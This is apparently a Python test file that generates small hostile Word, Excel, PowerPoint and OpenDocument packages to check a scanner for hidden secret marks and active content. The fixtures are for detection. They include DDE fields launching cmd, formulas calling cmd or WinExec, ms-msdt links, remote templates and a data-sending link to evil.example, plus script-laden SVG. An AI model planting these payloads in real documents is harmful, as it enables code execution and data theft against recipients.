"""Hostile office packages: parts under strange names, words that no page shows, orders in every spelling.

It must not run anything; every file is made here by code, and is small.
"""

from collections.abc import Iterator

from tests.examples.hostile_case import FileCase
from tests.office_packages import docx, opendocument, package, pptx, relations, sheet, xlsx
from tests.small_files import box, exif, jpeg, mp4, png, segment, svg

_MARK, _ORDER, _LOOSE = ("dau-mat",), ("van-phong-ma-lenh",), ("van-phong-phan-la",)
_P = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
_BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HTML = "<html><script>hacked</script></html>"
_PHOTO = jpeg(more=segment(0xE1, b"Exif\0\0" + exif(1)))


def part_cases() -> Iterator[FileCase]:
    """All of them."""
    for cases in (_names, _words, _sheet_words, _slide_words, _fields, _formulas, _outside, _inside, _odf):
        yield from cases()


def _names() -> Iterator[FileCase]:
    """Parts are what their list says, whatever they are called."""
    secret = _BODY.format(_P.format("TỐI MẬT"))
    for at, name in enumerate(("word/document2.xml", "word/noi%20dung.xml", "word/A.XML")):
        yield FileCase(f"goi-ten-{at}.docx", package(name, secret), _MARK)
    chunks: dict[str, str | bytes] = {
        "html": _HTML,
        "xhtml": _HTML,
        "rtf": "{\\rtf1 x}",
        "mht": "MIME-Version: 1.0",
        "docx": docx(),
        "txt": "chữ",
        "dat": _HTML,
    }
    for ending, data in chunks.items():
        more: dict[str, str | bytes] = {
            f"word/khuc.{ending}": data,
            "word/_rels/document.xml.rels": relations(("aFChunk", f"/word/khuc.{ending}")),
        }
        yield FileCase(f"goi-khuc-{ending}.docx", docx('<w:altChunk r:id="r1"/>', more), _ORDER)
    yield FileCase("goi-khuc-khong-phan.docx", docx('<w:altChunk r:id="r9"/>'), _ORDER)
    types = {"word/x.xml": "application/vnd.ms-office.vbaProject"}
    yield FileCase("goi-kieu-vba.docx", docx(more={"word/x.xml": "<x/>"}, types=types), _ORDER)
    types = {"xl/k.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"}
    yield FileCase("goi-kieu-ket-noi.xlsx", xlsx(more={"xl/k.xml": "<x/>"}, types=types), _ORDER)
    for kind in ("oleObject", "control", "connections", "queryTable", "webextension", "subDocument"):
        more = {"word/_rels/document.xml.rels": relations((kind, "la.xml")), "word/la.xml": "<x/>"}
        yield FileCase(f"goi-quan-he-{kind.lower()}.docx", docx(more=more), _ORDER)
    hidden: dict[str, str | bytes] = {"word/an.xml": secret, "word/media/an.png": png(), "an.xml": "<x/>"}
    for name, part in hidden.items():
        codes = (*_LOOSE, *_MARK) if part == secret else _LOOSE
        yield FileCase(
            f"goi-roi-{name.replace('/', '-')}.docx", docx(more={name: part}, loose=[name]), codes
        )
    rels: dict[str, str | bytes] = {"word/_rels/la.xml.rels": relations()}
    yield FileCase("goi-roi-rels.docx", docx(more=rels, loose=["word/la.xml"]), _LOOSE)
    yield FileCase(
        "goi-rac.docx", docx(more={"[trash]/0000.dat": "x"}, loose=["[trash]/0000.dat"]), (), (b"trash",)
    )


def _words() -> Iterator[FileCase]:
    """A mark wherever Word keeps words."""
    shown = {
        "mo-ta": '<w:p><wp:docPr xmlns:wp="wp" id="1" name="Hình" descr="TỐI MẬT"/></w:p>',
        "tieu-de-hinh": '<w:p><wp:docPr xmlns:wp="wp" id="1" name="a" title="TUYET MAT"/></w:p>',
        "ten-hinh": '<w:p><wp:docPr xmlns:wp="wp" id="1" name="TOI MAT"/></w:p>',
        "chu-chim": '<w:p><w:pict><v:textpath xmlns:v="v" string="TOI MAT"/></w:pict></w:p>',
        "alt-vml": '<w:p><w:pict><v:shape xmlns:v="v" alt="TỐI MẬT"/></w:pict></w:p>',
        "hop-chu": f"<w:p><w:r><w:txbxContent>{_P.format('TỐI MẬT')}</w:txbxContent></w:r></w:p>",
        "o-nhap": '<w:sdt><w:sdtPr><w:alias w:val="TỐI MẬT"/></w:sdtPr></w:sdt>',
        "o-chon": '<w:sdt><w:listItem w:displayText="TOI MAT" w:value="1"/></w:sdt>',
        "noi-dung-o": f"<w:sdt><w:sdtContent>{_P.format('TỐI MẬT')}</w:sdtContent></w:sdt>",
        "toan": '<w:p><m:oMath xmlns:m="m"><m:r><m:t>TỐI MẬT</m:t></m:r></m:oMath></w:p>',
        "chia-chu": "<w:p><w:r><w:t>TỐI M</w:t></w:r><w:r><w:t>ẬT</w:t></w:r></w:p>",
    }
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    rows = [[cell.format(text) for text in row] for row in (("Họ tên", "Số CMND"), ("An", "123456789"))]
    table = "".join(f"<w:tr>{''.join(row)}</w:tr>" for row in rows)
    yield FileCase("chu-bang-nguoi.docx", docx(f"<w:tbl>{table}</w:tbl>"), ("so-dinh-danh",))
    for name, text in shown.items():
        yield FileCase(f"chu-{name}.docx", docx(text), _MARK)
    told = f"<w:x {_W}>{_P.format('TỐI MẬT')}</w:x>"
    for kind in ("header", "footer", "footnotes", "endnotes", "glossaryDocument", "customXml", "aChart"):
        more = {"word/_rels/document.xml.rels": relations((kind, "la7.xml")), "word/la7.xml": told}
        yield FileCase(f"chu-{kind.lower()}.docx", docx(more=more, loose=["word/la7.xml"]), _MARK)
    others = {
        "danh-so": (
            "numbering",
            f'<w:numbering {_W}><w:lvl><w:lvlText w:val="TOI MAT"/></w:lvl></w:numbering>',
        ),
        "smartart": ("diagramData", "<d><pt><t><p><r><t>TỐI MẬT</t></r></p></t></pt></d>"),
        "bieu-do": ("chart", "<c><title><tx><rich><p><r><t>TỐI MẬT</t></r></p></rich></tx></title></c>"),
        "so-bieu-do": ("chart", "<c><strCache><pt><v>TỐI MẬT</v></pt></strCache></c>"),
        "bien-an": (
            "settings",
            f'<w:settings {_W}><w:docVars><w:docVar w:name="a" w:val="TOI MAT"/></w:docVars></w:settings>',
        ),
        "ten-kieu": ("styles", f'<w:styles {_W}><w:style><w:name w:val="TỐI MẬT"/></w:style></w:styles>'),
        "tieu-de-tep": ("core-properties", "<c><title>TỐI MẬT</title></c>"),
        "thuoc-tinh": ("custom-properties", "<c><property><lpwstr>TỐI MẬT</lpwstr></property></c>"),
        "cong-ty": ("extended-properties", "<c><Company>TỐI MẬT</Company><a>x</a></c>"),
    }
    for name, (kind, text) in others.items():
        more = {"word/_rels/document.xml.rels": relations((kind, "la.xml")), "word/la.xml": text}
        yield FileCase(f"chu-{name}.docx", docx(more=more, loose=["word/la.xml"]), _MARK)
    remark = f'<w:comments {_W}><w:comment w:author="An">{_P.format("TỐI MẬT")}</w:comment></w:comments>'
    more = {"word/_rels/document.xml.rels": relations(("comments", "y.xml")), "word/y.xml": remark}
    yield FileCase("chu-ghi-chu.docx", docx(more=more), (*_MARK, "van-phong-ghi-chu"))
    yield FileCase(
        "chu-utf16.docx",
        docx(more={"word/document.xml": _BODY.format(_P.format("TỐI MẬT")).encode("utf-16")}),
        _MARK,
    )


def _sheet_words() -> Iterator[FileCase]:
    """A mark or a number wherever Excel keeps words."""
    one = "xl/worksheets/sheet1.xml"
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
    yield FileCase("bang-o.xlsx", xlsx(more={one: sheet(cell.format("TỐI MẬT"))}), _MARK)
    shared = {"xl/sharedStrings.xml": "<sst><si><r><t>TỐI </t></r><r><t>MẬT</t></r></si></sst>"}
    yield FileCase(
        "bang-chung.xlsx", xlsx(more={**shared, one: sheet('<row><c t="s"><v>0</v></c></row>')}), _MARK
    )
    yield FileCase("bang-sot.xlsx", xlsx(more={**shared, one: sheet("")}), _MARK)
    for name, after in {
        "dau-trang": '<x><oddHeader>&amp;C&amp;"Arial,Bold"&amp;14TỐI MẬT</oddHeader></x>',
        "nhac": '<dataValidations><dataValidation promptTitle="x" prompt="TOI MAT"/></dataValidations>',
        "meo": '<hyperlinks><hyperlink ref="A1" location="A2" tooltip="TOI MAT"/></hyperlinks>',
    }.items():
        yield FileCase(f"bang-{name}.xlsx", xlsx(more={one: sheet("", after)}), _MARK)
    hidden = '<sheet name="S" sheetId="1" state="hidden" r:id="r1"/>'
    more = {
        one: sheet(cell.format("TỐI MẬT")),
        "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml")),
    }
    yield FileCase("bang-an.xlsx", xlsx(hidden, more), (*_MARK, "van-phong-an"))
    yield FileCase("bang-ten.xlsx", xlsx('<sheet name="TOI MAT" sheetId="1"/>'), _MARK)
    yield FileCase("bang-ten-vung.xlsx", xlsx('<definedName name="TỐI_MẬT">"TỐI MẬT"</definedName>'), _MARK)
    for name, part, text, codes in (
        (
            "dang-so",
            "xl/styles.xml",
            '<s><numFmts><numFmt formatCode="&quot;TỐI MẬT&quot;"/></numFmts></s>',
            _MARK,
        ),
        ("xoay", "xl/pivotCache/p.xml", '<p><s v="TỐI MẬT"/></p>', _MARK),
        ("hinh", "xl/drawings/d.xml", "<d><p><r><t>TỐI MẬT</t></r></p></d>", _MARK),
        (
            "ghi-chu",
            "xl/comments1.xml",
            "<c><comment><t>TỐI MẬT</t></comment></c>",
            (*_MARK, "van-phong-ghi-chu"),
        ),
        (
            "trao-doi",
            "xl/threadedComments/t.xml",
            "<c><threadedComment><text>TỐI MẬT</text></threadedComment></c>",
            (*_MARK, "van-phong-ghi-chu"),
        ),
        ("ngoai", "xl/externalLinks/e.xml", '<e><sheetName val="TỐI MẬT"/></e>', (*_MARK, "van-phong-an")),
    ):
        yield FileCase(f"bang-{name}.xlsx", xlsx(more={part: text}), codes)
    people = sheet(
        '<row><c r="A1" t="str"><v>Họ tên</v></c><c r="C1" t="str"><v>Số CMND</v></c></row>'
        '<row><c r="A2" t="str"><v>An</v></c><c r="C2"><v>123456789</v></c></row>'
    )
    yield FileCase("bang-nguoi.xlsx", xlsx(more={one: people}), ("so-dinh-danh",))
    inner = xlsx(more={one: sheet(cell.format("TỐI MẬT"))})
    yield FileCase(
        "bang-nhung.docx", docx(more={"word/embeddings/a.xlsx": inner}), (*_MARK, "van-phong-an")
    )
    inner = xlsx(more={"xl/vbaProject.bin": "x"})
    yield FileCase(
        "bang-nhung-macro.docx", docx(more={"word/embeddings/a.xlsx": inner}), (*_ORDER, "van-phong-an")
    )


def _slide_words() -> Iterator[FileCase]:
    """A mark wherever PowerPoint keeps words, and actions that start something."""
    for name, part in {
        "bo-cuc": "ppt/slideLayouts/l.xml",
        "nen": "ppt/slideMasters/m.xml",
        "phat": "ppt/handoutMasters/h.xml",
    }.items():
        yield FileCase(f"chieu-{name}.pptx", pptx({part: "<s><p><t>TỐI MẬT</t></p></s>"}), _MARK)
    alt = '<sld><cNvPr id="1" name="x" descr="TỐI MẬT"/></sld>'
    yield FileCase("chieu-mo-ta.pptx", pptx({"ppt/slides/s2.xml": alt}), _MARK)
    notes = {"ppt/notesSlides/n.xml": "<s><p>TỐI MẬT</p></s>"}
    yield FileCase("chieu-loi.pptx", pptx(notes), (*_MARK, "van-phong-an"))
    for name, action in {
        "hoa": "PPACTION://Program",
        "tep": "ppaction://hlinkfile",
        "ole": "ppaction://ole?verb=0",
        "macro": "ppaction:macro?name=x",
    }.items():
        yield FileCase(
            f"chieu-lenh-{name}.pptx",
            pptx({"ppt/slides/s2.xml": f'<sld><h action="{action}"/></sld>'}),
            _ORDER,
        )


def _run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _field(*pieces: str) -> str:
    """A field whose code is in these pieces, fields among them."""
    inner = "".join(one if one.startswith("<") else _run(one) for one in pieces)
    return f"{_mark('begin')}{inner}{_mark('separate')}<w:r><w:t>x</w:t></w:r>{_mark('end')}"


def _fields() -> Iterator[FileCase]:
    """Fields that fetch or run, in every spelling."""
    codes = "".join(f" {ord(sign)}" for sign in "DDEAUTO")
    hexes = "".join(f" 0x{ord(sign):x}" for sign in "INCLUDETEXT")
    for name, field in {
        "chia": _field(" DD", "EAU", 'TO c:\\\\cmd "/k"'),
        "thuong": _field(" ddeauto c:\\\\cmd"),
        "nhay": _field(' "DDE" cmd'),
        "long-so": _field(_field(f"QUOTE{codes}"), " c:\\\\cmd"),
        "long-hex": _field(_field(f" QUOTE{hexes} "), " http://x"),
        "long-chu": _field(_field(' QUOTE "DDE"'), "AUTO c"),
        "bien": _field(' SET a "DDE"') + _field(_field(" REF a "), " c"),
        "link": _field(" LINK Excel.Sheet.12 \\\\\\\\may\\\\a.xlsx"),
        "database": _field(" DATABASE \\\\d x"),
        "import": _field(" IMPORT x.gif"),
        "anh": _field(' INCLUDEPICTURE "https://evil.example/a.png" \\\\d'),
        "chu": _field(" INCLUDETEXT a.docx"),
        "macro": _field(" MACROBUTTON Chay bấm"),
        "msdt": _field(' HYPERLINK "ms-msdt:/id"'),
        "may": _field(' HYPERLINK "\\\\\\\\may\\\\a"'),
        "js": _field(" HYPERLINK javascript:hacked"),
        "tep": _field(' HYPERLINK "file:///c:/a" \\o "x"'),
        "dia": _field(' HYPERLINK "C:\\\\a.exe"'),
        "rd": _field(" RD c:\\\\a.docx"),
        "in": _field(" PRINT x"),
        "ho": _mark("begin") + _run(" DDE cmd"),
        "gon-link": '<w:fldSimple w:instr=" LINK Word.Document.8 x"/>',
        "gon-msdt": '<w:fldSimple w:instr="HYPERLINK &quot;search-ms:x&quot;"/>',
    }.items():
        yield FileCase(f"truong-{name}.docx", docx(f"<w:p>{field}</w:p>"), _ORDER)
    more = {
        "word/_rels/document.xml.rels": relations(("header", "h9.xml")),
        "word/h9.xml": f"<w:hdr {_W}><w:p>{_field('DDE x')}</w:p></w:hdr>",
    }
    yield FileCase("truong-dau-trang.docx", docx(more=more), _ORDER)


def _formulas() -> Iterator[FileCase]:
    """Formulas that fetch or run, wherever Excel keeps formulas."""
    one = "xl/worksheets/sheet1.xml"
    for name, formula in {
        "webservice": "WEBSERVICE(&quot;http://x&quot;)",
        "tien-to": "_xlfn.WEBSERVICE(A1)",
        "filterxml": "FILTERXML(A1,&quot;//a&quot;)",
        "image": "_xlfn.IMAGE (A1)",
        "call": "CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;)",
        "register": "1+register.id(A1)",
        "cmd": "cmd|'/c calc'!A0",
        "msexcel": "MSEXCEL|'\\..\\cmd.exe /c calc'!''",
        "may": "HYPERLINK(&quot;\\\\may\\a&quot;)",
        "msdt": "HYPERLINK(&quot;ms-&quot;&amp;&quot;msdt:x&quot;,A1)",
        "ma": "HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;&quot;may&quot;)",
        "gui": "HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Xem&quot;)",
        "rtd": "RTD(A1,,&quot;x&quot;)",
    }.items():
        yield FileCase(
            f"cong-thuc-{name}.xlsx",
            xlsx(more={one: sheet(f"<row><c><f>{formula}</f><v>1</v></c></row>")}),
            _ORDER,
        )
    call = "WEBSERVICE(A1)"
    for name, after in {
        "dinh-dang": f"<cfRule><formula>{call}</formula></cfRule>",
        "kiem": f"<dataValidation><formula1>{call}</formula1></dataValidation>",
    }.items():
        yield FileCase(f"cong-thuc-{name}.xlsx", xlsx(more={one: sheet("", after)}), _ORDER)
    yield FileCase("cong-thuc-ten.xlsx", xlsx(f'<definedName name="a">{call}</definedName>'), _ORDER)
    mashup = {
        "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">x</DataMashup>'
    }
    yield FileCase("cong-thuc-truy-van.xlsx", xlsx(more=mashup), _ORDER)


def _outside() -> Iterator[FileCase]:
    """Relationships that lead out of the file."""
    for name, target in {
        "may": "\\\\may\\a.xlsx",
        "file": "file://may/a.xlsx",
        "file4": "file:////may/a.xlsx",
        "web": "https://evil.example/a.xlsx",
    }.items():
        more = {"xl/externalLinks/_rels/e.xml.rels": relations(("externalLinkPath", target), outside=True)}
        yield FileCase(f"ngoai-{name}.xlsx", xlsx(more=more), (*_ORDER, "van-phong-an"))
    for name, target in {
        "msdt": "ms-msdt:/id",
        "search": "search-ms:x",
        "cheo": "//may/a",
        "tach": "java\tscript:x",
        "ma-hoa": "%5C%5Cmay%5Ca",
        "dia": "c:\\a.exe",
    }.items():
        more = {"word/_rels/document.xml.rels": relations(("hyperlink", target), outside=True)}
        yield FileCase(f"ngoai-lien-ket-{name}.docx", docx(more=more), _ORDER)
    template = {
        "word/_rels/document.xml.rels": relations(("settings", "s.xml")),
        "word/_rels/s.xml.rels": relations(
            ("attachedTemplate", "http://evil.example/hacked"), outside=True
        ),
    }
    yield FileCase("ngoai-mau.docx", docx(more=template), (), (b"hacked",))
    yield FileCase(
        "ngoai-vml.docx", docx('<w:p><v:imagedata xmlns:v="v" src="http://evil.example/a"/></w:p>'), _ORDER
    )


def _inside() -> Iterator[FileCase]:
    """Pictures, films and programs among the media."""
    yield FileCase(
        "trong-anh-dat.docx", docx(more={"word/media/a.dat": _PHOTO}), (), (b"Camera",), (b"\xff\xd8",)
    )
    yield FileCase("trong-exe.docx", docx(more={"word/media/a.png": b"MZ\x90\0" + b"\0" * 99}), _ORDER)
    yield FileCase("trong-zip.pptx", pptx({"ppt/media/a.emf": docx()}), _ORDER)
    tiff = b"II*\0\x08\0\0\0\1\0\x25\x88\x04\0\1\0\0\0\x1a\0\0\0" + b"\0" * 20
    yield FileCase("trong-tiff.docx", docx(more={"word/media/a.tiff": tiff}), ("phim-co-vi-tri",))
    drawing = svg("lành</text><script>hacked</script><text>")
    yield FileCase(
        "trong-svg.docx", docx(more={"word/media/a.svg": drawing}), (), (b"hacked",), ("lành".encode(),)
    )
    yield FileCase("trong-svg-mat.docx", docx(more={"word/media/a.svg": svg("TỐI MẬT")}), _MARK)
    yield FileCase(
        "trong-phim.pptx",
        pptx({"ppt/media/a.mp4": mp4(box(b"udta", box(b"\xa9xyz", b"+21.02")))}),
        (),
        (b"21.02",),
    )
    yield FileCase(
        "trong-nhac.pptx",
        pptx({"ppt/media/a.mp3": b"ID3\4\0\0\0\0\0\x08TPE1An!!" + b"\xff\xfb\x90\0"}),
        (),
        (b"An!!",),
    )


def _odf() -> Iterator[FileCase]:
    """The same in OpenDocument."""
    yield FileCase("odf-roi.odt", opendocument(more={"an.xml": "<x/>"}, loose=["an.xml"]), _LOOSE)
    for name, text, codes in (
        ("anh-xa", '<c xmlns:x="x"><image x:href="http://evil.example/a.png"/></c>', _ORDER),
        ("may", '<c xmlns:x="x"><a x:href="\\\\may\\a">x</a></c>', _ORDER),
        ("lien-ket-js", '<c xmlns:x="x"><a x:href="javascript:hacked">x</a></c>', _ORDER),
        ("doan", '<c xmlns:x="x"><section-source x:href="a.odt"/></c>', _ORDER),
        ("dde", "<c><dde-connection-decl/></c>", _ORDER),
        ("su-kien", '<c xmlns:p="p"><event-listener p:action="execute"/></c>', _ORDER),
        ("cong-thuc", '<c xmlns:t="t"><table-cell t:formula="of:=WEBSERVICE(&quot;x&quot;)"/></c>', _ORDER),
        ("ten-bang", '<c xmlns:t="t"><table t:name="TOI MAT"/></c>', _MARK),
        ("mo-ta", "<c><frame><desc>TỐI MẬT</desc></frame><p/></c>", _MARK),
        ("nhi-phan", "<c><binary-data>AAAA</binary-data></c>", _ORDER),
    ):
        yield FileCase(f"odf-{name}.odt", opendocument(text), codes)
    yield FileCase(
        "odf-thong-tin.odt", opendocument(more={"meta.xml": "<m><title>TỐI MẬT</title></m>"}), _MARK
    )
    yield FileCase(
        "odf-con.odt", opendocument(more={"Object 1/content.xml": "<c><p>TỐI MẬT</p></c>"}), _MARK
    )
    menus = {"Configurations2/menubar/menubar.xml": '<m href="macro:hacked"/>'}
    yield FileCase("odf-menu.odt", opendocument(more=menus), (), (b"hacked",))
